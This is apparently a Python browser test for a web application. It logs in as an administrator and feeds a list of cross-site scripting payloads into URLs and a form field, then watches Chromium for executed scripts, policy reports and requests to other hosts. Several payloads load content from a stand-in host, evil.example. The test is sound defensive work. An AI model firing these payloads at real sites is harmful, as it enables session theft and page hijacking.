"""Strings of script where a user's word is shown again, in a real browser."""

import contextlib
import os
import shutil
import tempfile
import threading
from pathlib import Path
from urllib.parse import quote

from security.report import Found

STRINGS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'-alert(1)-'",
    "javascript:alert(1)",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "</title><script>alert(1)</script>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mtext><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<style>@import 'http://evil.example/x'</style>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>x",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//evil.example/x.js>",
    "<img src='x' onerror='alert`1`'>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x",
    "<marquee onstart=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "'><script>alert(String.fromCharCode(49))</script>",
    "<p style=background:url(javascript:alert(1))>",
    "\u202e<script>alert(1)</script>",
]
GOOD = "a sentence nobody guesses"


def shown() -> Found:
    """Sign in, stop the scores with each string as the reason, and put it into addresses; what a browser then does."""
    browser = shutil.which("chromium") or shutil.which("chromium-browser")
    if browser is None:
        return Found(None, {}, "no Chromium")
    with _served() as (address, store), _page(browser) as (page, seen):
        if not _sees(page, seen):
            return Found(None, {}, "the browser does not tell what it does")
        page.goto(f"{address}/sign-in")
        page.fill("#name", "chief")
        page.fill("#password", GOOD)
        page.click("form.sign button")
        for text in STRINGS:
            for place in (
                f"/sign-in?next={quote(text)}",
                f"/admin?said={quote(text)}",
                f"/feeds?lang={quote(text)}",
                f"/{quote(text, safe='')}",
            ):
                page.goto(address + place)
            page.goto(f"{address}/admin/stop")
            page.fill("input[name=why]", text)
            page.click("form.take button")
            page.click("form.take button")
            for place in ("/feeds", "/admin", "/alerts", "/admin/stop"):
                page.goto(address + place)
            if store.stopped is not None:
                store.go_on(by="admin", why="next")
        wanted = sum(s.stopped for s in store.stops())
    figures = {"strings": len(STRINGS), "kept and shown": wanted, **{name: len(found) for name, found in seen.items()}}
    return Found(
        not any(seen.values()) and wanted > len(STRINGS) // 2,
        figures,
        "; ".join(f for found in seen.values() for f in found[:2]),
    )


@contextlib.contextmanager
def _served():
    """The application of a town with an administrator, on a port of this machine."""
    import uvicorn
    from argon2 import PasswordHasher
    from towns import web

    from riskwarn.access import password
    from riskwarn.web import create_app
    from riskwarn.web.server import listen

    folder = Path(tempfile.mkdtemp())
    os.environ["RISKWARN_LEDGER"] = f"sqlite:///{folder / 'ledger.db'}"
    cost, password.HASHER = password.HASHER, PasswordHasher(time_cost=1, memory_cost=8, parallelism=1)
    store = web.build(folder / "town")
    app = create_app(store.path, clock=lambda: web.NOW)
    app.state.rates = None
    app.state.doorman.accounts.add("chief", GOOD, role="admin")
    with listen("127.0.0.1", 0) as opened:
        server = uvicorn.Server(uvicorn.Config(app, log_level="error", lifespan="off"))
        thread = threading.Thread(target=server.run, kwargs={"sockets": [opened]}, daemon=True)
        thread.start()
        try:
            yield f"http://127.0.0.1:{opened.getsockname()[1]}", store
        finally:
            server.should_exit = True
            thread.join(10)
            password.HASHER = cost
            os.environ.pop("RISKWARN_LEDGER")


def _sees(page, seen: dict[str, list[str]]) -> bool:
    """Whether a script that runs would be seen: one is let run, and forgotten again."""
    page.set_content("<img src=x onerror='alert(1)'>")
    page.wait_for_timeout(500)
    there = bool(seen["dialogs"])
    for found in seen.values():
        found.clear()
    return there


@contextlib.contextmanager
def _page(program: str):
    """A tab, and what it did that it must not do: dialogs, reports of the policy, errors, requests to other hosts."""
    from playwright.sync_api import sync_playwright

    seen: dict[str, list[str]] = {"dialogs": [], "CSP reports": [], "console errors": [], "requests elsewhere": []}
    with sync_playwright() as play:
        browser = play.chromium.launch(executable_path=program, args=["--no-sandbox", "--disable-gpu"])
        page = browser.new_page()
        page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
        page.on("pageerror", lambda e: seen["console errors"].append(str(e)))
        page.on("console", lambda m: _note(seen, m.type, m.text))
        page.on("request", lambda r: seen["requests elsewhere"].append(r.url) if "127.0.0.1" not in r.url else None)
        yield page, seen
        browser.close()


def _note(seen: dict[str, list[str]], kind: str, text: str) -> None:
    if "Content Security Policy" in text:
        seen["CSP reports"].append(text)
    elif (
        kind == "error" and "Failed to load resource" not in text
    ):  # an answer of 404, 422 or 503 is what was asked for
        seen["console errors"].append(text)
